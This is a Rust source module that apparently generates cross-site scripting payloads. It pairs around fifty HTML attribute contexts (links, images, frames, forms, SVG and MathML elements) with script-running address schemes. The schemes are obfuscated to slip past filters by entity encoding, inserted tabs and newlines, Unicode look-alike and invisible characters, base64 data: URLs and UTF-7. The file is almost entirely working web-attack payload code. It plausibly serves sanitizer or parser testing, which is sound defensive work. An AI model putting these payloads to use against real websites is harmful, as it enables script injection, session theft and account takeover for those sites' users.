//! Addresses that are programs, in every attribute that holds an address.

use base64::{Engine as _, engine::general_purpose::STANDARD};

use super::{Mark, Payloads, in_quotes};

/// Where `@` stands for an address between double quotes.
const PLACES: [&str; 52] = [
    "<a href=\"@\">x</a>",
    "<img src=\"@\">",
    "<img src=\"x:x\" srcset=\"@ 1x\">",
    "<iframe src=\"@\"></iframe>",
    "<form action=\"@\"><input type=submit></form>",
    "<svg><a xlink:href=\"@\"><text y=9>x</text></a></svg>",
    "<object data=\"@\"></object>",
    "<meta http-equiv=refresh content=\"0;url=@\">",
    "<video poster=\"@\"></video>",
    "<blockquote cite=\"@\">x</blockquote>",
    "<a href=@>x</a>",
    "<a href='@'>x</a>",
    "<a title=\">\" HREF = \"@\" rel=me>x</a>",
    "<a href=\"/\" href=\"@\">x</a>",
    "<a href=\"@\" href=\"/\">x</a>",
    "<a href=\"/\" ping=\"@\">x</a>",
    "<area href=\"@\" shape=default>",
    "<map name=m><area shape=default href=\"@\"></map><img usemap=#m src=x:x>",
    "<audio src=\"@\"></audio>",
    "<video src=\"@\" autoplay></video>",
    "<video><source src=\"@\"></video>",
    "<video><track default src=\"@\"></video>",
    "<picture><source srcset=\"@\"><img src=x:x></picture>",
    "<img srcset=\"/a.png 1x, @ 2x\">",
    "<q cite=\"@\">x</q>",
    "<del cite=\"@\">x</del>",
    "<ins cite=\"@\">x</ins>",
    "<embed src=\"@\">",
    "<applet code=\"@\" codebase=\"@\"></applet>",
    "<base href=\"@\">",
    "<link rel=stylesheet href=\"@\">",
    "<link rel=import href=\"@\">",
    "<script src=\"@\"></script>",
    "<button formaction=\"@\" form=q-f>x</button>",
    "<form><input type=image formaction=\"@\"></form>",
    "<input type=image src=\"@\">",
    "<isindex action=\"@\" type=submit>",
    "<body background=\"@\">",
    "<table background=\"@\"><tr><td background=\"@\">x</table>",
    "<img longdesc=\"@\" lowsrc=\"@\" dynsrc=\"@\" src=x:x>",
    "<bgsound src=\"@\">",
    "<frameset><frame src=\"@\"></frameset>",
    "<layer src=\"@\"></layer>",
    "<html manifest=\"@\">",
    "<svg><use href=\"@\"/></svg>",
    "<svg><image href=\"@\"/></svg>",
    "<svg><script href=\"@\"/></svg>",
    "<svg><a><animate attributeName=href values=\"@\"/><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=\"@\"/><text y=9>x</text></a></svg>",
    "<math href=\"@\"><mtext>x</mtext></math>",
    "<math><maction actiontype=\"statusline#@\" xlink:href=\"@\">x</maction></math>",
    "<portal src=\"@\"></portal>",
];

pub(super) fn add(payloads: &mut Payloads) {
    let blank = Mark { number: 0, trap: "" };
    for (p, place) in PLACES[..10].iter().enumerate() {
        for at in (0..schemes(&blank).len()).filter(|at| p < 3 || (at + p) % 2 == 0) {
            payloads.add("address", |mark| put(place, &schemes(mark)[at]));
        }
    }
    for place in &PLACES[10..] {
        for at in [0, 3, 9, 44] {
            payloads.add("address", |mark| put(place, &schemes(mark)[at]));
        }
    }
}

fn put(place: &str, address: &str) -> String {
    place.replace('@', &in_quotes(address))
}

/// Addresses that run, and those that only look like it to one of two parsers.
pub(super) fn schemes(mark: &Mark<'_>) -> Vec<String> {
    let run = mark.run();
    let script = format!("<script>{}</script>", mark.run_anywhere());
    let drawing = format!("<svg xmlns='http://www.w3.org/2000/svg' onload=\"{}\"/>", mark.run_anywhere());
    let mut schemes: Vec<String> = [
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java&#9;script:",
        "java\nscript:",
        "java&#x0a;script:",
        "java&#13;script:",
        "java&Tab;script:",
        "java&NewLine;script:",
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "javascript&#0000058",
        "&#106;avascript:",
        "&#x6A;&#X61;vascript:",
        "&#0000106avascript:",
        " javascript:",
        "&#1;javascript:",
        "&#14; &#31; javascript:",
        "\u{a0}javascript:",
        "\u{feff}javascript:",
        "\u{200b}javascript:",
        "\u{202e}javascript:",
        "\u{2028}javascript:",
        "java&#0;script:",
        "java&shy;script:",
        "javascript\u{ff1a}",
        "\u{ff4a}avascript:",
        "java\u{17f}cript:",
        "javascript%3a",
        "%6aavascript:",
        "javascript://127.0.0.1/%0a",
        "javascript:/*--></a></title></style>\"/*'/*`/**/",
        "vbscript:",
        "livescript:",
        "mocha:",
        "feed:javascript:",
        "view-source:javascript:",
        "javascript:javascript:",
        "url=javascript:",
        "x-unknown:",
        "\\javascript:",
        "./javascript:",
        "?javascript:",
    ]
    .map(|scheme| format!("{scheme}{run}"))
    .to_vec();
    schemes.extend([
        format!("data:text/html,{script}"),
        format!("DATA:TEXT/HTML;charset=utf-8,{script}"),
        format!("data:text/html;base64,{}", STANDARD.encode(&script)),
        format!("data:image/svg+xml,{drawing}"),
        format!("data:image/svg+xml;base64,{}", STANDARD.encode(&drawing)),
        format!("data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'>{script}</x>"),
        format!("data:application/xhtml+xml;charset=utf-7,+ADw-script+AD4-{run}"),
        format!("data:,{run}"),
        format!("da\tta:text/html,{script}"),
        format!("&#100;ata:text/javascript,{run}"),
        format!("blob:{}", mark.url("address")),
        format!("filesystem:{}", mark.url("address")),
        format!("jar:{}!/x", mark.url("address")),
        format!("file:///etc/passwd?{run}"),
        format!("ftp://127.0.0.1/{run}"),
        format!("ws://127.0.0.1/{run}"),
        "about:blank".to_owned(),
        "tel:+1".to_owned(),
        "intent:#Intent;action=x;end".to_owned(),
        "http://[".to_owned(),
        "http://a:b@127.0.0.1:x/".to_owned(),
    ]);
    schemes
}
